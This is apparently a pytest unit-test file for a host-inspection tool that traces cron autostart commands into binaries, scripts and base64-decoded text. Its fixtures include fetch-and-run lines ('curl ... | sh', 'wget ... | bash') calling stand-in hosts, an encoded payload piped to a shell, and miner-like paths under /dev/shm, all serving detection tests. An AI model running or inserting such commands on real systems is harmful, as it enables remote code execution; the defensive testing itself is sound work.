"""What the command of an autostart comes to: files with their identity, scripts one level deep, encoded texts."""

from __future__ import annotations

import base64
import os
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.snapshots import cron, snapshot

from davy.collect.commands import programs_of
from davy.collect.following import ENTRIES_LIMIT, following
from davy.collect.following.follower import SCRIPT_BYTES, TEXT_LIMIT
from davy.host import Entry, Host, MemoryRoot, at
from davy.host.packages import packages
from davy.knowledge.matching import rule_by_id
from davy.knowledge.matching.rules import sample
from davy.model.autostarts import Autostart, Followed, Step
from davy.model.content import ContentHit, Place
from davy.model.facts import Account, Gap
from davy.model.reach import USUAL
from davy.model.snapshot import Snapshot

FETCH = "curl -fsSL http://192.0.2.7/x.sh | sh"
Fact = Followed | ContentHit | Gap


def of_root(files: dict[str, str | bytes | Entry], *lines: Autostart) -> list[Fact]:
    found = snapshot(*lines)
    return looked(Host(MemoryRoot(files), None), found)


def looked(host: Host, found: Snapshot) -> list[Fact]:
    return list(following(host, found.autostarts, found.accounts, found.content_hits, packages(host.root), USUAL))


def by_path(facts: list[Fact]) -> dict[str, Followed]:
    return {fact.path: fact for fact in facts if isinstance(fact, Followed) and fact.path and fact.text is None}


def texts(facts: list[Fact]) -> list[tuple[Step, str]]:
    return [(fact.step, fact.text) for fact in facts if isinstance(fact, Followed) and fact.text is not None]


def test_a_program_is_told_with_its_identity_and_one_that_is_missing_without() -> None:
    line = cron("/opt/x; /opt/y")
    found = by_path(of_root({"/opt/x": Entry(b"\x7fELF", mode=0o100755)}, line))
    assert found.keys() == {"/opt/x", "/opt/y"}
    there = found["/opt/x"].executable
    assert there is not None
    assert (there.path, there.size, there.mode & 0o777, there.owner_package) == ("/opt/x", 4, 0o755, None)
    assert there.sha256 is not None
    assert found["/opt/y"].executable is None
    assert {one.autostart for one in found.values()} == {line.subject}


def test_a_link_is_followed_within_the_root_to_what_it_leads_to(tmp_path: Path) -> None:
    (tmp_path / "dev/shm/.x").mkdir(parents=True)
    (tmp_path / "dev/shm/.x/run").write_bytes(b"\x7fELF")
    (tmp_path / "usr").mkdir()
    (tmp_path / "usr/tool").symlink_to("/dev/shm/.x/run")
    found = by_path(looked(at(str(tmp_path)), snapshot(cron("/usr/tool"))))
    assert found["/usr/tool"].executable is not None
    assert found["/usr/tool"].executable.path == "/dev/shm/.x/run"


def test_a_folder_open_to_all_is_told(tmp_path: Path) -> None:
    (tmp_path / "srv").mkdir()
    os.chmod(tmp_path / "srv", 0o777)
    (tmp_path / "srv/x").write_text("#!/bin/sh\n")
    found = by_path(looked(at(str(tmp_path)), snapshot(cron("/srv/x"))))
    assert found["/srv/x"].folder_mode == 0o777


def test_a_program_without_a_path_is_looked_for_where_programs_are() -> None:
    files = {"/usr/local/sbin/kdevtmpfsi": "\x7fELF", "/etc/passwd": ""}
    assert by_path(of_root(files, cron("kdevtmpfsi -q && nothing"))).keys() == {"/usr/local/sbin/kdevtmpfsi"}


def test_a_script_is_read_one_level_deep() -> None:
    files = {
        "/opt/a.sh": f"#!/bin/sh\n# {FETCH}\nls -l\n{FETCH}\n/opt/b.sh\n/opt/ls-is-not-there\n",
        "/opt/b.sh": "#!/bin/sh\nwget http://198.51.100.7/y.sh -O- | bash\n/opt/c\n",
        "/opt/c": "\x7fELF",
    }
    facts = of_root(files, cron("/opt/a.sh"))
    assert texts(facts) == [(Step.SCRIPT, FETCH)]
    assert {path: one.step for path, one in by_path(facts).items()} == {
        "/opt/a.sh": Step.COMMAND,
        "/opt/b.sh": Step.SCRIPT,
    }


def test_a_text_that_an_interpreter_is_given_is_a_script_without_saying_so() -> None:
    facts = of_root({"/opt/notes": f"{FETCH}\n"}, cron("sh /opt/notes"))
    assert texts(facts) == [(Step.SCRIPT, FETCH)]
    assert texts(of_root({"/opt/notes": f"{FETCH}\n"}, cron("/bin/cat /opt/notes"))) == []


@pytest.mark.parametrize("script", [False, True])
def test_what_is_decoded_is_told_with_its_programs(script: bool) -> None:
    text = f"echo {base64.b64encode(b'/dev/shm/.x/run --quiet').decode()} | base64 -d | sh"
    files = {"/opt/a": f"#!/bin/sh\n{text}\n", "/dev/shm/.x/run": "\x7fELF"}
    facts = of_root(files, cron("/opt/a" if script else text))
    assert (Step.DECODED, "/dev/shm/.x/run --quiet") in texts(facts)
    assert by_path(facts)["/dev/shm/.x/run"].step is Step.DECODED


def test_a_package_s_program_is_told_and_neither_hashed_nor_read() -> None:
    files = {
        "/usr/bin/tool": f"#!/bin/sh\n{FETCH}\n",
        "/var/lib/dpkg/info/tool.list": "/usr/bin/tool\n",
        "/var/lib/dpkg/status": "",
    }
    facts = of_root(files, cron("/usr/bin/tool"))
    program = by_path(facts)["/usr/bin/tool"].executable
    assert program is not None
    assert (program.owner_package, program.sha256) == ("tool", None)
    assert texts(facts) == []


def test_entries_of_packages_are_not_followed() -> None:
    assert of_root({"/opt/x": "\x7fELF"}, cron("/opt/x", owner_package="x", unmodified=True)) == []
    assert of_root({"/opt/x": "\x7fELF"}, cron("/opt/x", owner_package="x", unmodified=False)) != []


def test_what_the_rules_find_in_a_dormant_file_is_told() -> None:
    rule = rule_by_id("configuration.command")
    assert rule is not None
    script = b"#!/bin/sh\n" + sample(rule.must_match[0])
    facts = of_root({"/usr/local/sbin/updated": script}, cron("/usr/local/sbin/updated"))
    hits = [fact for fact in facts if isinstance(fact, ContentHit)]
    assert (rule.id, "/usr/local/sbin/updated", Place.SCRIPT) in {(hit.rule, hit.path, hit.place) for hit in hits}


def test_a_home_is_known_to_the_entrys_user() -> None:
    line = cron("~/a.sh", user="ada")
    found = snapshot(
        Autostart(
            kind=line.kind, path=line.path, line=1, command=line.command, user="ada",
            programs=programs_of(line.command, home="/home/ada"),
        )
    )  # fmt: skip
    found = msgspec.structs.replace(found, accounts=(Account("ada", 1000, 1000, "/home/ada", "/bin/sh"),))
    root = MemoryRoot({"/home/ada/a.sh": "#!/bin/sh\n$HOME/.x/run\n", "/home/ada/.x/run": "\x7fELF"})
    facts = looked(Host(root, None), found)
    assert by_path(facts).keys() == {"/home/ada/a.sh", "/home/ada/.x/run"}


def test_a_line_is_not_blamed_for_the_lines_of_another_table_that_it_reads() -> None:
    outer, inner = cron(". /opt/profile"), cron(FETCH, path="/opt/profile")
    facts = of_root({"/opt/profile": f"#!/bin/sh\n{FETCH}\n"}, outer, inner)
    assert texts(facts) == []


def test_everything_is_bounded_and_what_was_left_is_a_gap() -> None:
    lines = [cron(f"/opt/{number}", line=number) for number in range(1, ENTRIES_LIMIT + 50)]
    facts = of_root({"/opt/1": "\x7fELF"}, *lines)
    assert len(by_path(facts)) <= ENTRIES_LIMIT
    assert any(isinstance(fact, Gap) and fact.collector == "autostarts" for fact in facts)
    long = "#!/bin/sh\n" + "curl http://192.0.2.7/x | sh\n" * 100_000
    (step, text), *_ = texts(of_root({"/opt/a": long}, cron("/opt/a")))
    assert (step, len(text) <= TEXT_LIMIT) == (Step.SCRIPT, True)
    late = "#!/bin/sh\n" + "#" * SCRIPT_BYTES + "\n" + FETCH
    assert texts(of_root({"/opt/a": late}, cron("/opt/a"))) == []


def test_one_entry_is_not_hidden_behind_a_thousand_decoys_of_another_file() -> None:
    decoys = [cron(f"/opt/{number}", line=number, path="/etc/crontab") for number in range(1, 1000)]
    old = msgspec.structs.replace(cron("/opt/x", user="ada"), mtime=1.0)
    assert "/opt/x" in by_path(of_root({"/opt/x": "\x7fELF"}, *decoys, old))


def test_a_loop_of_links_and_a_fifo_are_gaps_or_nothing(tmp_path: Path) -> None:
    (tmp_path / "opt").mkdir()
    (tmp_path / "opt/a").symlink_to("/opt/b")
    (tmp_path / "opt/b").symlink_to("/opt/a")
    os.mkfifo(tmp_path / "opt/fifo")
    facts = looked(at(str(tmp_path)), snapshot(cron("/opt/a; sh /opt/fifo; /opt")))
    assert all(one.executable is None for one in by_path(facts).values())
    assert any(isinstance(fact, Gap) for fact in facts)


@given(st.binary(max_size=300), st.text(max_size=100))
def test_any_script_and_any_command_are_followed(script: bytes, command: str) -> None:
    for fact in of_root({"/opt/a": b"#!/bin/sh\n" + script}, cron(f"/opt/a {command}")):
        assert isinstance(fact, Followed | ContentHit | Gap)
